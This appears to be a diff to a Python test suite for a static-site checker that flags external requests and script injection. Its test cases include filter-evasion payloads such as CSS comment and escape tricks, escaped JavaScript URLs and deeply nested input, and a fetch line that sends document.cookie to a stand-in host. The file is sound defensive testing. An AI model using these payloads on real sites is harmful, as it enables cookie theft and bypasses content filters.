@@ -102,6 +102,7 @@ FILES = {
         "<a href='javascript:x'/>": "不能用",
         "<a xmlns:x='http://www.w3.org/1999/xlink' x:href='javascript:x'/>": "不能用",
         "<image href='https://evil.example/x.png'/>": "向别的网站请求",
+        "<use href='data:image/svg+xml,%3Csvg/%3E#a'/>": "向别的网站请求",
         "<use href='https://evil.example/x.svg#a'/>": "向别的网站请求",
         "<set attributeName='href' to='javascript:x'/>": "不能有 <set>",
         "<rect fill='url(https://evil.example/x.svg#a)'/>": "样式会向别的网站请求",
@@ -114,11 +115,19 @@ FILES = {
         "@IMPORT url(//evil.example/x.css);": "向别的网站请求",
         "p{background:URL( 'https://evil.example/x' )}": "向别的网站请求",
         "p{background:u\\000072l(https\\3a //evil.example/x)}": "向别的网站请求",
+        "@import 'https://evil.example/x.css": "向别的网站请求",
+        "p{content:'/*'}q{background:url(//evil.example/x)}p{content:'*/'}": "向别的网站请求",
+        "p{background:\\75rl(/*)}q{background:url(//evil.example/x)}/**/": "向别的网站请求",
+        """p{content:"/*
+}q{background:url(//evil.example/x)}/**/""": "向别的网站请求",
         "p{background:image-set('https://evil.example/x' 1x)}": "向别的网站请求",
     },
     "a.js": {
         "import('https://evil.example/x.js')": "脚本里有别的网站的网址",
         'import x from "//evil.example/x.js"': "脚本里有别的网站的网址",
+        r"fetch('\x68ttps://evil.example/')": "脚本里有别的网站的网址",
+        r"fetch('\/\u{2F}evil.example/')": "脚本里有别的网站的网址",
+        'a({"a": %s"https://evil.example/"})' % ("[" * 100_000): "脚本里有别的网站的网址",
         "fetch(`https://evil.example/${document.cookie}`)": "脚本里有别的网站的网址",
         "new WebSocket('wss://evil.example/')": "脚本里有别的网站的网址",
         'import("data:text/javascript,alert(1)")': "脚本里有别的网站的网址",
@@ -128,10 +137,12 @@ FILES = {
     "a.webmanifest": {
         f'{{"src": "{where}evil.example/x.png"}}': "文件里有别的网站的网址"
         for where in ("https://", r"\/\/", r"\u0068ttps://", " https://")
-    },
+    }
+    | {"[" * 100_000: "读不懂"},
     "a.xml": {
         "<html xmlns='http://www.w3.org/1999/xhtml'/>": "当作网页",
-        "<?xml-stylesheet href='x.xsl'?><a/>": "当作网页",
+        "<?xml-stylesheet href='x.xsl'?><!-- 甲 --><a/>": "当作网页",
+        "<a><b></a>": "读不懂",
         "<a><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></a>": "当作网页",
         "<a><s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script/></s:svg></a>": "当作网页",
     },
@@ -206,9 +217,13 @@ def test_what_pages_are_made_of_passes(site: Site, tmp_path: Path, part: str) ->
     assert faults(site, tmp_path, **{"a.html": f"<title>甲</title><p>甲</p>{part}"}) == []
 
 
-def test_data_for_scripts_may_name_other_sites(site: Site, tmp_path: Path) -> None:
-    text = 'searchPart({"a": ["https://example.org/"]});\n'
-    assert faults(site, tmp_path, **{"a.js": text}) == []
+def test_data_may_name_other_sites(site: Site, tmp_path: Path) -> None:
+    files = {
+        "a.js": 'searchPart({"a": ["https://example.org/"]});\n',
+        "a.css": "/* it's 'https://example.org/' */p{content:'//'}/* url(//example.org) */",
+        "a.xml": "<?xml version='1.0'?><!-- 甲 --><a b='https://example.org/'/>",
+    }
+    assert faults(site, tmp_path, **files) == []
 
 
 def test_the_engines_own_scripts_and_styles_stand_in_pages(site: Site, tmp_path: Path) -> None:
